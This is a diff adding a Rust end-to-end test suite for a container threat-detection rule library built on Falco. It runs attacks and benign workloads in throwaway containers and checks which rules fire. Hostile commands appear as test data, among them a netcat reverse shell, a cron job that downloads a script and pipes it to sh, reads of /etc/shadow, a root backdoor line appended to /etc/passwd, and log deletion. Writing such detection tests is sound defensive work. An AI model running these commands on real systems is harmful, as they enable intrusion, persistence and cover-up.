@@ -1,0 +1,389 @@
+//! End to end: the real sensor, the rule library in `rules/` loaded beside Falco's
+//! stable rules, and real containers doing attacks and benign work. Every scenario
+//! asserts what fires and what must not. Scenarios are separate tests, so the
+//! harness runs them in parallel threads against the one shared sensor.
+//! Needs root and dockerd: skips with the reason elsewhere, fails in CI.
+
+use std::time::Duration;
+
+use rampart_detect_e2e::{detector, ready, TestContainer, TestNetwork};
+
+const T: Duration = Duration::from_secs(30);
+/// Time given to late events before asserting that something did not fire.
+const SETTLE: Duration = Duration::from_secs(3);
+
+fn assert_quiet(c: &TestContainer, rules: &[&str], what: &str) {
+    std::thread::sleep(SETTLE);
+    let bad: Vec<String> = detector()
+        .matches_in(c)
+        .into_iter()
+        .filter(|m| rules.contains(&m.rule.as_str()))
+        .map(|m| format!("{} <- {}", m.rule, m.cmdline()))
+        .collect();
+    assert!(bad.is_empty(), "{what}: unexpected alerts {bad:#?}");
+}
+
+#[test]
+fn interactive_shell_via_docker_exec_tty() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let c = TestContainer::start("rampart-de2e-tty", &[], &[]);
+    // Without a terminal first: a scripted exec is not an interactive shell.
+    c.exec("echo notty-marker");
+    let out = c.exec_tty("echo tty-marker; exit 0");
+    assert!(
+        out.contains("tty-marker"),
+        "docker exec -it output: {out:?}"
+    );
+    let m = d.wait_for("Interactive shell in container", &c, T, |m| {
+        m.cmdline().contains("tty-marker")
+    });
+    assert!(m.event.process.as_ref().unwrap().tty != 0);
+    // Falco's own rule fires on the same behaviour.
+    d.wait_for("Terminal shell in container", &c, T, |m| {
+        m.cmdline().contains("tty-marker")
+    });
+    std::thread::sleep(SETTLE);
+    let notty: Vec<_> = d
+        .matches_in(&c)
+        .into_iter()
+        .filter(|m| m.cmdline().contains("notty-marker"))
+        .map(|m| m.rule)
+        .collect();
+    assert!(notty.is_empty(), "non-tty exec alerted: {notty:?}");
+}
+
+#[test]
+fn reverse_shell_to_peer_listener() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let net = TestNetwork::create("rampart-de2e-rev");
+    let net_arg = format!("--network={}", net.name);
+    // The attacker's listener sends two commands to whoever connects.
+    let listener = TestContainer::start(
+        "rampart-de2e-listener",
+        &[&net_arg],
+        &[
+            "sh",
+            "-c",
+            "(echo 'echo pwned-by-listener; exit'; sleep 5) | nc -l -p 4444",
+        ],
+    );
+    let victim = TestContainer::start("rampart-de2e-victim", &[&net_arg], &[]);
+    d.wait_for("Netcat listener started", &listener, T, |_| true);
+    // The listener may not be accepting yet right after start: retry a few times.
+    for _ in 0..10 {
+        victim.exec("nc -e /bin/sh rampart-de2e-listener 4444");
+        if !d
+            .our_matches_in(&victim)
+            .iter()
+            .any(|m| m.rule == "Netcat or socat outbound connection")
+        {
+            std::thread::sleep(Duration::from_millis(500));
+            continue;
+        }
+        break;
+    }
+    d.wait_for("Reverse shell via netcat exec", &victim, T, |m| {
+        m.cmdline().contains("-e /bin/sh")
+    });
+    d.wait_for("Netcat or socat outbound connection", &victim, T, |_| true);
+    // Falco's rule for the same behaviour.
+    d.wait_for(
+        "Netcat Remote Code Execution in Container",
+        &victim,
+        T,
+        |_| true,
+    );
+    // The listener itself is not a reverse shell.
+    assert_quiet(
+        &listener,
+        &[
+            "Reverse shell via netcat exec",
+            "Netcat or socat outbound connection",
+        ],
+        "listener",
+    );
+}
+
+#[test]
+fn sensitive_reads_and_writes_below_etc() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let c = TestContainer::start("rampart-de2e-etc", &[], &[]);
+    // Benign neighbours first: an app reading its own config and the account list.
+    c.exec("mkdir -p /srv/app && echo 'port: 8080' > /srv/app/config.yaml; cat /srv/app/config.yaml /etc/passwd /etc/hostname >/dev/null; true");
+    assert_quiet(
+        &c,
+        &[
+            "Shadow file read in container or by untrusted program",
+            "Account database written",
+            "Read sensitive file untrusted",
+        ],
+        "config reads",
+    );
+    c.exec("cat /etc/shadow > /dev/null; true");
+    d.wait_for(
+        "Shadow file read in container or by untrusted program",
+        &c,
+        T,
+        |m| m.cmdline().starts_with("cat"),
+    );
+    d.wait_for("Read sensitive file untrusted", &c, T, |_| true);
+    c.exec("echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd; echo 'alias sudo=/tmp/s' >> /root/.profile; true");
+    d.wait_for("Account database written", &c, T, |_| true);
+    d.wait_for("Shell profile modified", &c, T, |_| true);
+}
+
+#[test]
+fn crontab_edits() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let c = TestContainer::start("rampart-de2e-cron", &[], &[]);
+    c.exec("crontab -l; true");
+    assert_quiet(&c, &["Crontab edited", "Cron file written"], "crontab -l");
+    c.exec("echo '* * * * * wget -qO- http://203.0.113.7/m | sh' | crontab -");
+    d.wait_for("Crontab edited", &c, T, |m| {
+        m.cmdline().starts_with("crontab -")
+    });
+    c.exec("mkdir -p /etc/cron.d && echo '* * * * * root id' > /etc/cron.d/job; true");
+    d.wait_for("Cron file written", &c, T, |_| true);
+}
+
+#[test]
+fn download_piped_to_shell_and_health_checks() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let net = TestNetwork::create("rampart-de2e-dl");
+    let net_arg = format!("--network={}", net.name);
+    let server = TestContainer::start(
+        "rampart-de2e-dlsrv",
+        &[&net_arg],
+        &["sh", "-c", "mkdir -p /www && echo 'echo stage2-ran' > /www/x.sh && echo ok > /www/index.html && httpd -f -p 8080 -h /www"],
+    );
+    let client = TestContainer::start("rampart-de2e-dlcli", &[&net_arg], &[]);
+    // Health checks and probes first: bodies discarded, nothing executed.
+    let mut up = false;
+    for _ in 0..20 {
+        if client
+            .exec("wget -q --spider http://rampart-de2e-dlsrv:8080/ && wget -qO /dev/null http://rampart-de2e-dlsrv:8080/index.html && echo up")
+            .contains("up")
+        {
+            up = true;
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    assert!(up, "test web server did not come up");
+    assert_quiet(
+        &client,
+        &[
+            "Download piped to shell",
+            "Ingress tool transfer to writable directory",
+        ],
+        "health checks",
+    );
+    let out = client.exec("wget -qO- http://rampart-de2e-dlsrv:8080/x.sh | sh");
+    assert!(out.contains("stage2-ran"), "{out:?}");
+    d.wait_for("Download piped to shell", &client, T, |_| true);
+    client.exec("wget -qO /tmp/x.sh http://rampart-de2e-dlsrv:8080/x.sh; true");
+    d.wait_for(
+        "Ingress tool transfer to writable directory",
+        &client,
+        T,
+        |_| true,
+    );
+    drop(server);
+}
+
+#[test]
+fn fileless_memfd_exec() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let c = TestContainer::start("rampart-de2e-memfd", &[], &[]);
+    c.exec("/bin/true");
+    assert_quiet(&c, &["Fileless execution from memory"], "plain exec");
+    c.exec("actions memfd-exec");
+    d.wait_for("Fileless execution from memory", &c, T, |_| true);
+    d.wait_for("Fileless execution via memfd_create", &c, T, |_| true);
+}
+
+#[test]
+fn privileged_escape_primitives() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let c = TestContainer::start("rampart-de2e-priv", &["--privileged"], &[]);
+    // Benign: tmpfs mount and dropping root for nobody.
+    c.exec("actions mount; actions setuid; true");
+    assert_quiet(
+        &c,
+        &[
+            "Host filesystem or cgroupfs mounted in container",
+            "Non-root process set uid to root",
+        ],
+        "tmpfs mount / privilege drop",
+    );
+    c.exec("mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg; mount -t cgroup2 none /tmp/cg; true");
+    d.wait_for(
+        "Host filesystem or cgroupfs mounted in container",
+        &c,
+        T,
+        |_| true,
+    );
+    c.exec(
+        "actions setns; actions ptrace; actions init-module; actions bpf; actions proc-mem; true",
+    );
+    d.wait_for("Setns called in container", &c, T, |_| true);
+    d.wait_for("Process attached with ptrace", &c, T, |_| true);
+    d.wait_for("PTRACE attached to process", &c, T, |_| true);
+    d.wait_for("Kernel module loaded", &c, T, |_| true);
+    d.wait_for("BPF program loaded from container", &c, T, |_| true);
+    d.wait_for("Process memory written through /proc", &c, T, |_| true);
+}
+
+#[test]
+fn log_tampering_versus_own_log_rotation() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let c = TestContainer::start("rampart-de2e-logs", &[], &[]);
+    // The application appends to its log and rotates it: rename, compress, prune.
+    c.exec(
+        "mkdir -p /var/log/app && cd /var/log/app && for i in 1 2 3 4; do \
+           echo line$i >> app.log; [ -f app.log.2.gz ] && mv app.log.2.gz app.log.3.gz; \
+           [ -f app.log.1 ] && mv app.log.1 app.log.2 && gzip -f app.log.2; \
+           mv app.log app.log.1; rm -f app.log.3.gz; done; true",
+    );
+    assert_quiet(
+        &c,
+        &["Log file deleted", "Log file truncated"],
+        "own log rotation",
+    );
+    c.exec("echo x > /var/log/auth.log; rm /var/log/auth.log; : > /var/log/app/app.log.1; true");
+    d.wait_for("Log file deleted", &c, T, |m| m.cmdline().starts_with("rm"));
+    d.wait_for("Log file truncated", &c, T, |_| true);
+}
+
+#[test]
+fn benign_web_server_under_load_with_health_checks() {
+    if !ready() {
+        return;
+    }
+    let d = detector();
+    let net = TestNetwork::create("rampart-de2e-web");
+    let net_arg = format!("--network={}", net.name);
+    let server = TestContainer::start(
+        "rampart-de2e-websrv",
+        &[
+            &net_arg,
+            "--health-cmd",
+            "wget -q --spider http://localhost:8080/ || exit 1",
+            "--health-interval",
+            "1s",
+        ],
+        &[
+            "sh",
+            "-c",
+            "mkdir -p /www && echo hello > /www/index.html && exec httpd -f -p 8080 -h /www",
+        ],
+    );
+    let client = TestContainer::start("rampart-de2e-webcli", &[&net_arg], &[]);
+    let out = client.exec(
+        "n=0; for i in $(seq 1 300); do wget -qO /dev/null http://rampart-de2e-websrv:8080/index.html && n=$((n+1)); done; echo served=$n",
+    );
+    assert!(out.contains("served="), "{out:?}");
+    let served: u32 = out
+        .trim()
+        .trim_start_matches("served=")
+        .parse()
+        .unwrap_or(0);
+    assert!(served > 250, "web server under load answered only {served}");
+    // The sensor did see this workload (so silence below means no false positive).
+    assert!(
+        docker_health_ran(&server),
+        "the health check never ran in {}",
+        server.name
+    );
+    std::thread::sleep(SETTLE);
+    for c in [&server, &client] {
+        let alerts: Vec<String> = d
+            .our_matches_in(c)
+            .into_iter()
+            .map(|m| format!("{} <- {}", m.rule, m.cmdline()))
+            .collect();
+        assert!(
+            alerts.is_empty(),
+            "benign workload {} alerted: {alerts:#?}",
+            c.name
+        );
+    }
+}
+
+fn docker_health_ran(c: &TestContainer) -> bool {
+    for _ in 0..20 {
+        let log =
+            rampart_detect_e2e::docker(&["inspect", "-f", "{{len .State.Health.Log}}", &c.name]);
+        if log.parse::<u32>().unwrap_or(0) > 0 {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(250));
+    }
+    false
+}
+
+const DEBIAN: &str = "rampart-test/debian:12";
+
+#[test]
+fn package_manager_in_debian_container() {
+    if !ready() {
+        return;
+    }
+    let have_image = std::process::Command::new("docker")
+        .args(["image", "inspect", DEBIAN])
+        .output()
+        .map(|o| o.status.success())
+        .unwrap_or(false);
+    if !have_image {
+        assert!(
+            std::env::var("CI").is_err(),
+            "{DEBIAN} is missing in CI: scripts/setup must run scripts/build-debian-image"
+        );
+        eprintln!(
+            "skipping package-manager test: {DEBIAN} missing (run scripts/build-debian-image)"
+        );
+        return;
+    }
+    let d = detector();
+    let name = "rampart-de2e-deb";
+    let _ = std::process::Command::new("docker")
+        .args(["rm", "-f", name])
+        .output();
+    let id = rampart_detect_e2e::docker(&["run", "-d", "--name", name, DEBIAN, "sleep", "300"]);
+    let c = TestContainer {
+        id,
+        name: name.to_string(),
+    };
+    // Querying the package database is not installing.
+    c.exec("dpkg -l > /dev/null; apt-get --version > /dev/null; true");
+    assert_quiet(&c, &["Package manager run in container"], "package queries");
+    // No package lists in the image, so this fails fast; the attempt is what matters.
+    c.exec("apt-get install -y --no-download nmap; true");
+    d.wait_for("Package manager run in container", &c, T, |m| {
+        m.cmdline().starts_with("apt-get install")
+    });
+}
